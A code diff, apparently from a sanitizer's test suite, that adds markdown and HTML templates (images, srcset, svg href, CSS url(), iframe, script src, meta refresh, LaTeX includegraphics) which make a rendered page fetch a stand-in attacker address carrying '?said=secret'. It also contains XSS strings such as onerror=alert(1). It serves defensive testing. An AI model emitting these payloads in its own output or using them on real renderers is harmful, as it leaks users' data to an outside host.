@@ -63,6 +63,47 @@ const PICTURES = [
   'x" onerror="alert(1)',
 ];
 
+/** Ways to have a page ask somebody else for something, with what was said in the address. */
+const LEAKS: readonly ((address: string) => string)[] = [
+  (address) => `![x](${address})`,
+  (address) => `![x](<${address}> "title")`,
+  (address) => `![x][leak]\n\n[leak]: ${address}`,
+  (address) => `![leak]\n\n[leak]: <${address}> 'title'`,
+  (address) => `| ![x](${address}) |\n|---|\n| ![y](${address}) |`,
+  (address) => `- ![x](${address})\n  > ![y](${address})`,
+  (address) => `x[^leak]\n\n[^leak]: ![x](${address})`,
+  (address) => `# ![x](${address})`,
+  (address) => `**![x](${address})**`,
+  (address) => `[![x](${address})](${address})`,
+  (address) => `<img src="${address}">`,
+  (address) => `<img srcset="${address} 2x">`,
+  (address) => `<picture><source srcset="${address}"></picture>`,
+  (address) => `<input type=image src="${address}">`,
+  (address) => `<svg><image href="${address}"></svg>`,
+  (address) => `<svg><use href="${address}#x"></svg>`,
+  (address) => `<link rel=prefetch href="${address}">`,
+  (address) => `<link rel=dns-prefetch href="${address}">`,
+  (address) => `<style>p { background: url("${address}") }</style>`,
+  (address) => `<p style="background: url('${address}')">x</p>`,
+  (address) => `<iframe src="${address}"></iframe>`,
+  (address) => `<object data="${address}"></object>`,
+  (address) => `<video poster="${address}"></video>`,
+  (address) => `<track src="${address}">`,
+  (address) => `<script src="${address}"></script>`,
+  (address) => `<a ping="${address}" href="#">x</a>`,
+  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
+  (address) => `$\\includegraphics{${address}}$`,
+  (address) => `$$\n\\htmlStyle{background: url(${address})}{x}\n$$`,
+];
+const LEAK_ADDRESSES = [
+  "https://evil.example/x.png?said=secret",
+  "http://evil.example/x.png?said=secret",
+  "wss://evil.example/x?said=secret",
+  "//evil.example/x.png?said=secret",
+  "https://127.0.0.1:1/x.png?said=secret",
+  "https:\\\\evil.example/x.png",
+];
+
 /** Texts that would run, load or send something if any mark of theirs were taken for markup. */
 export const PAYLOADS: readonly string[] = [
   ...TAGS,
@@ -99,4 +140,5 @@ export const PAYLOADS: readonly string[] = [
   "[<img src=x onerror=alert(1)>](https://example.com)",
   "[x](https://example.com)<img src=x onerror=alert(1)>",
   "<a@evil.example?subject=x onclick=alert(1)>",
+  ...LEAK_ADDRESSES.flatMap((address) => LEAKS.map((leak) => leak(address))),
 ];
